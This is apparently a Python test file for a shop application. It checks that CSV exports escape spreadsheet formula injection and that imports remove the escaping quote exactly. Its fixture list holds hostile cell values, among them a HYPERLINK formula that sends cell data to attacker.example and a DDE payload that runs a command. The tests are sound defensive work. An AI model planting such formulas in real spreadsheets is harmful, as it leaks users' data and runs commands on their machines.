"""CSV formula injection (SPEC §14): product names an attacker chose are exported as text, not
as formulas a spreadsheet would run, and the `'` that makes them text comes off on import."""

from __future__ import annotations

from decimal import Decimal

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from app.csv_cells import escape_cell, escaped_content
from tests.api.order_helpers import Caller, caller
from tests.api.test_import_export import EXPORT, csv_rows, products_by_sku, upload
from tests.factories import make_product

# (name, description) an attacker stores through any door; each must come back exactly.
HOSTILE = [
    ("=1+1", '=HYPERLINK("http://attacker.example/?"&A1,"Click")'),
    ("+x", "+cmd|' /C calc'!A0"),
    ("-x", "-2+3"),
    ("@x", "@SUM(1,1)"),
    ("Tabbed", "\tx"),
    ("Carriage", "\r=x"),
    ("  =x", "   +x"),
    ("'=x", "''=x"),
    ("'plain", "'"),
    ("Plain name", "Plain text = fine"),
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
async def manager(session: AsyncSession) -> Caller:
    return await caller(session, "manager")


async def export_rows(client: httpx.AsyncClient, who: Caller, q: str) -> dict[str, list[str]]:
    response = await client.get(EXPORT, params={"q": q}, headers=who.headers)
    assert response.status_code == 200, response.text
    return {row[0]: row for row in csv_rows(response.text)[1:]}


async def hostile_products(session: AsyncSession) -> dict[str, tuple[str, str]]:
    """One product per hostile (name, description), by SKU."""
    made: dict[str, tuple[str, str]] = {}
    for index, (name, description) in enumerate(HOSTILE):
        sku = f"FX-{index:03d}"
        await make_product(session, sku=sku, name=name, description=description)
        made[sku] = (name, description)
    return made


async def test_no_exported_cell_starts_a_formula(
    client: httpx.AsyncClient, session: AsyncSession, manager: Caller
) -> None:
    made = await hostile_products(session)

    rows = await export_rows(client, manager, "FX-")

    assert set(rows) == set(made)
    for row in rows.values():
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), row
    assert rows["FX-000"][1:3] == ["'=1+1", "'" + HOSTILE[0][1]]
    assert rows["FX-006"][1:3] == ["'  =x", "'   +x"]
    # Already quoted text is quoted once more, so the import cannot mistake it for an escape.
    assert rows["FX-007"][1:3] == ["''=x", "'''=x"]
    # Text that no spreadsheet would run is written as it is.
    assert rows["FX-008"][1:3] == ["'plain", "'"]
    assert rows["FX-009"][1:3] == ["Plain name", "Plain text = fine"]


async def test_a_sku_starting_with_a_dash_is_escaped_and_imports_back(
    client: httpx.AsyncClient, session: AsyncSession, manager: Caller
) -> None:
    # `-` is a legal SKU character, so a SKU can open with it.
    await make_product(session, sku="-FX-1", name="Dashed")

    response = await client.get(EXPORT, params={"q": "Dashed"}, headers=manager.headers)
    row = csv_rows(response.text)[1]
    back = await upload(client, manager, response.text)

    assert row[0] == "'-FX-1"
    assert back.status_code == 200, back.text
    assert (back.json()["created"], back.json()["updated"]) == (0, 1)


async def test_numbers_are_exported_as_numbers(
    client: httpx.AsyncClient, session: AsyncSession, manager: Caller
) -> None:
    await make_product(session, sku="FX-NUM", name="Numbers", price=Decimal("0"), stock=0)

    rows = await export_rows(client, manager, "FX-NUM")

    assert rows["FX-NUM"][3:] == ["0.00", "0", "0", "true"]


async def test_export_then_import_gives_back_exactly_what_was_exported(
    client: httpx.AsyncClient, session: AsyncSession, manager: Caller
) -> None:
    made = await hostile_products(session)
    exported = await client.get(EXPORT, params={"q": "FX-"}, headers=manager.headers)
    # Overwrite every product, so only the import can bring the originals back.
    for product in (await products_by_sku(session, *made)).values():
        product.name, product.description = "Overwritten", "Overwritten"
    await session.flush()

    dry_run = await upload(client, manager, exported.text, dry_run="true")
    applied = await upload(client, manager, exported.text)

    assert dry_run.status_code == 200, dry_run.text
    assert applied.status_code == 200, applied.text
    assert (applied.json()["created"], applied.json()["updated"]) == (0, len(made))
    products = await products_by_sku(session, *made)
    assert {sku: (p.name, p.description) for sku, p in products.items()} == made


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        ("'=SUM(A1:A9)", "=SUM(A1:A9)"),  # escaped by hand or by another tool
        ("'  @x", "  @x"),  # an escaped cell is taken as it is, leading spaces included
        ("''=x", "'=x"),  # exactly one quote comes off
        ("'plain", "'plain"),  # not an escape: a quote before text that is no formula
        ("' '=x", "' '=x"),
    ],
)
async def test_the_import_takes_off_exactly_the_escaping_quote(
    client: httpx.AsyncClient, session: AsyncSession, manager: Caller, cell: str, stored: str
) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    response = await upload(client, manager, f"sku,name,price\nFX-Q01,{quoted},1.00\n")

    assert response.status_code == 200, response.text
    assert (await products_by_sku(session, "FX-Q01"))["FX-Q01"].name == stored


@pytest.mark.parametrize(
    "value",
    ["", "x", "'", "''", "=", "'=", " ", "  -1", "'\t", "\r\n", "a'=b", "@", "' =x", "'''+"],
)
def test_escaping_is_undone_exactly(value: str) -> None:
    cell = escape_cell(value)
    content = escaped_content(cell)

    assert (cell if content is None else content) == value
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
